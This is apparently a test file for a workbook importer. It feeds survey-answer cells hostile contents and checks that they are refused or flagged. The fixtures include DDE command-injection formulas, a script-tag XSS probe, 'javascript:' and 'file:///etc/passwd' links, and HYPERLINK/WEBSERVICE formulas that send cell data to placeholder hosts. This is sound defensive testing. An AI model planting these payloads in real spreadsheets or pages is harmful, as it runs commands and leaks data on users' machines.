"""Cells that say odd things: errors, formulas, numbers that are none, letters that look like others."""

from __future__ import annotations

from typing import TYPE_CHECKING

from integrity_zone.exports.worksheet.layout import lay_out
from tests.support.hostile_workbooks.book import LINKS_OF_JAWABAN, OFFICE, REAL, STYLES, Book, Hostile, Read

if TYPE_CHECKING:
    from collections.abc import Iterator

_LAYOUT = lay_out(REAL)
#: Three questions with the cells of their answers: one of a choice, one of a survey, and one count.
CHOICE, SURVEY, COUNT = "A.I.1.i.a", "B.I.a", "A.II.1.i.a perubahan"
_CHOICE_CELL, _SURVEY_CELL = (f"K{_LAYOUT.indicators[code]}" for code in (CHOICE, SURVEY))
_COUNT_CELL = f"K{_LAYOUT.counts['A.II.1.i.a', 'perubahan']}"
_NOTE = f"{CHOICE} note"
_FORMULA = '=HYPERLINK("http://x.invalid/?"&amp;A1)'
_ALL_REFUSED = {CHOICE: _CHOICE_CELL, SURVEY: _SURVEY_CELL, COUNT: _COUNT_CELL}


def not_values() -> Iterator[Hostile]:
    """What is no answer wherever it stands: refused at each of three cells, and nowhere else."""
    day = '<xf numFmtId="14" fontId="0" fillId="0" borderId="0" xfId="0"/></cellXfs>'
    for name, rest in (
        ("formula", 't="str"><f>IF(TRUE,"Ya","Tidak")</f><v>Ya</v>'),
        ("formula with a number", "><f>1+1</f><v>2</v>"),
        ("formula of many cells", 't="str"><f t="array" ref="K6:K9">{"Ya"}</f><v>Ya</v>'),
        ("formula kept elsewhere", 't="str"><f t="shared" si="7"/><v>Ya</v>'),
        ("call of another program", "t=\"str\"><f>cmd|' /C calc'!A0</f><v>Ya</v>"),
        ("error of a reference", 't="e"><v>#REF!</v>'),
        ("error of a division", 't="e"><v>#DIV/0!</v>'),
        ("error as formula", 't="e"><f>NA()</f><v>#N/A</v>'),
        ("false", 't="b"><v>0</v>'),
        ("day in ISO", 't="d"><v>2026-01-02T00:00:00</v>'),
        ("not a number", "><v>NaN</v>"),
        ("infinity", "><v>INF</v>"),
        ("number too large for any", "><v>1e999</v>"),
        ("number of 400 digits", f"><v>{'9' * 400}</v>"),
        ("negative number", "><v>-1</v>"),
        ("number in hexadecimal", "><v>0x10</v>"),
        ("number with blanks within", "><v>1 000</v>"),
        ("number with a decimal comma", "><v>3,6</v>"),
        ("kind nobody knows", 't="zz"><v>Ya1</v>'),
        ("markup", 't="inlineStr"><is><t>&lt;b&gt;Ya&lt;/b&gt;</t></is>'),
        ("text of a formula", f't="inlineStr"><is><t>{_FORMULA}</t></is>'),
        ("32,767 letters", f't="inlineStr"><is><t>{"Ya " * 10_922}</t></is>'),
        ("a million letters", f't="inlineStr"><is><t>{"Ya" * 500_000}</t></is>'),
        ("two answers", 't="inlineStr"><is><t>Ya/Tidak</t></is>'),
        ("Cyrillic letters", 't="inlineStr"><is><t>Y\u0430</t></is>'),
        ("emoji", 't="inlineStr"><is><t>\u2705</t></is>'),
        ("Arabic figures", 't="inlineStr"><is><t>\u0663</t></is>'),
        ("combining letters", 't="inlineStr"><is><t>Ya\u0301</t></is>'),
    ):
        book = Book()
        for place in _ALL_REFUSED.values():
            book.cell(place, rest)
        yield Hostile(f"answer: {name}", book, Read(refused=frozenset(_ALL_REFUSED)))
    styles = Book().parts[STYLES].decode().partition("<cellXfs")[2].partition("</cellXfs>")[0].count("<xf ")
    dated = Book().swap(STYLES, "</cellXfs>", day)
    for place in _ALL_REFUSED.values():
        dated.cell(place, f's="{styles}"><v>4</v>')
    yield Hostile("answer: number shown as a day", dated, Read(refused=frozenset(_ALL_REFUSED)))


def surroundings() -> Iterator[Hostile]:
    """What people and programs put around an answer: understood."""
    for name, text in (
        ("no-break space", "\u00a0Tidak\u00a0"),
        ("narrow no-break space", "\u202fTidak"),
        ("decomposed and full width", "\uff34\uff49\uff44\uff41\uff4b"),
        ("right to left", "\u202eTidak\u202c"),
        ("isolates", "\u2067Tidak\u2069"),
        ("nothing wide", "Ti\u200bdak\ufeff"),
        ("soft hyphen", "Ti\u00addak"),
        ("lines", "\n\n Tidak \t\n"),
        ("full stop and quotes", "&quot;tidak.&quot;"),
    ):
        yield Hostile(f"around: {name}", Book().text(_CHOICE_CELL, text), Read({CHOICE: "Tidak"}))
    for name, book, outcome in (
        ("no answer", Book().text(_CHOICE_CELL, "\u00a0\u200b"), Read({CHOICE: None})),
        ("word for no answer", Book().text(_CHOICE_CELL, "Blm Diisi"), Read({CHOICE: None})),
        ("decimal comma", Book().text(_SURVEY_CELL, "3,6"), Read({SURVEY: "3.6"})),
        ("binary decimal", Book().number(_SURVEY_CELL, "3.6000000000000001"), Read({SURVEY: "3.6"})),
        ("power of ten", Book().number(_COUNT_CELL, "1.2E1"), Read({COUNT: "12"})),
        ("zeros in front", Book().text(_COUNT_CELL, "007"), Read({COUNT: "7"})),
        ("true", Book().cell(_CHOICE_CELL, 't="b"><v>1</v>'), Read({CHOICE: "Ya"})),
        ("unit", Book().text(_COUNT_CELL, "12 kali"), Read({COUNT: "12"})),
        ("full-width figures", Book().text(_COUNT_CELL, "\uff11\uff12"), Read({COUNT: "12"})),
    ):
        yield Hostile(f"around: {name}", book, outcome)


def numbers() -> Iterator[Hostile]:
    """Numbers that one kind of answer does not take, and that are never bent until it does."""
    for name, place, key, text in (
        ("share above its scale", _SURVEY_CELL, SURVEY, "4.01"),
        ("share in percent", _SURVEY_CELL, SURVEY, "90"),
        ("seven decimals", _SURVEY_CELL, SURVEY, "3.1234567"),
        ("half a thing", _COUNT_CELL, COUNT, "1.5"),
        ("a milliard", _COUNT_CELL, COUNT, "1000000000"),
        ("largest there is", _COUNT_CELL, COUNT, "1.7976931348623157E+308"),
        ("smallest there is", _COUNT_CELL, COUNT, "5E-324"),
    ):
        yield Hostile(f"number: {name}", Book().number(place, text), Read(refused=frozenset({key})))
    thousands = Book().text(_COUNT_CELL, "1.000")
    yield Hostile("number: thousands with a point", thousands, Read(refused=frozenset({COUNT})))


def notes() -> Iterator[Hostile]:
    """Texts that would be more than texts somewhere else."""
    note = f"L{_LAYOUT.indicators[CHOICE]}"
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", "&lt;script&gt;alert(1)&lt;/script&gt;"):
        plain = text.strip().replace("&lt;", "<").replace("&gt;", ">")
        yield Hostile(f"note: {plain}", Book().text(note, text), Read({_NOTE: plain}))
    for name, book, outcome in (
        ("formula", Book().formula(note, "1+1", "<v>2</v>"), Read(refused=frozenset({_NOTE}))),
        ("error", Book().cell(note, 't="e"><v>#NAME?</v>'), Read(refused=frozenset({_NOTE}))),
        ("20,000 letters", Book().text(note, "a" * 20_000), Read(refused=frozenset({_NOTE}))),
        ("written backwards", Book().text(note, "aman\u202egpj.exe"), Read({_NOTE: "amangpj.exe"})),
    ):
        yield Hostile(f"note: {name}", book, outcome)


def evidence() -> Iterator[Hostile]:
    """Addresses: only those of the web are offered, and none is visited."""
    place, key = f"M{_LAYOUT.indicators[CHOICE]}", f"{CHOICE} evidence"
    for address in ("javascript:alert(1)", "file:///etc/passwd", "\\\\server\\bagian\\x", "smb://server/x"):
        yield Hostile(f"evidence: {address}", Book().text(place, address), Read({key: address}))
    link = Book().formula(place, "HYPERLINK(&quot;https://contoh.invalid/a&quot;,&quot;SK&quot;)", "<v>X</v>")
    yield Hostile("evidence: link in a formula", link, Read({key: "SK"}, findings=frozenset({"written-link"})))
    called = Book().formula(place, "HYPERLINK(&quot;javascript:alert(1)&quot;,&quot;SK&quot;)", "<v>X</v>")
    yield Hostile("evidence: call in a formula", called, Read({key: "SK"}, findings=frozenset({"link-left"})))
    for name, formula in (
        ("put together", "HYPERLINK(&quot;https://contoh.invalid/?&quot;&amp;K6,&quot;SK&quot;)"),
        ("asked of the web", "WEBSERVICE(&quot;https://contoh.invalid/a&quot;)"),
    ):
        book = Book().formula(place, formula, "<v>https://contoh.invalid/b</v>")
        outcome = Read({key: None}, findings=frozenset({"evidence-formula"}))
        yield Hostile(f"evidence: address {name} by a formula", book, outcome)
    yield from _links_behind(place, key)


def _links_behind(place: str, key: str) -> Iterator[Hostile]:
    """Links behind a word, which nobody sees."""
    left = Read({key: "SK"}, findings=frozenset({"link-left"}))
    for address in (
        "javascript:alert(1)",
        "file:///D:/bukti/SK.pdf",
        "\\\\server\\bagian\\SK.pdf",
        "smb://server/x",
        "data:,x",
        "../SK.pdf",
        "https://siapa:sandi@contoh.invalid/",
        "http://",
        "https://contoh.invalid/" + "a" * 9_000,
        "https://contoh.invalid/a b",
    ):
        book = Book().text(place, "SK").link(place, address)
        yield Hostile(f"behind a word: {address[:40]}", book, Read({key: "SK"}) if address.startswith("http") else left)
    one = '<hyperlinks><hyperlink ref="{}" r:id="rId9" xmlns:r="{}"/></hyperlinks>'
    nowhere = Book().text(place, "SK").behind(one.format(place, OFFICE))
    yield Hostile("behind a word: no table of addresses", nowhere, left)
    for name, relations in (("broken", "<Relationships"), ("empty", f'<Relationships xmlns="{OFFICE}"/>')):
        book = Book().text(place, "SK").behind(one.format(place, OFFICE)).put(LINKS_OF_JAWABAN, relations)
        yield Hostile(f"behind a word: {name} table of addresses", book, left)
    many = "".join(f'<hyperlink ref="T{row}" r:id="rId{row}"/>' for row in range(1, 18_000))
    listed = f'<hyperlinks xmlns:r="{OFFICE}">{many * 6}</hyperlinks>'
    book = Book().text(place, "SK").behind(listed)
    yield Hostile("behind a word: 100,000 links", book, Read({key: "SK"}, findings=frozenset({"many-links"})))
    wide = Book().text(place, "SK").link("A1:XFD1048576", "https://contoh.invalid/")
    yield Hostile("one link behind everything", wide, Read({key: "SK"}))
    tall = Book().text(place, "SK").link("A1:XFD20000", "https://contoh.invalid/")
    yield Hostile("one link behind all that is read", tall, Read({key: "SK"}))
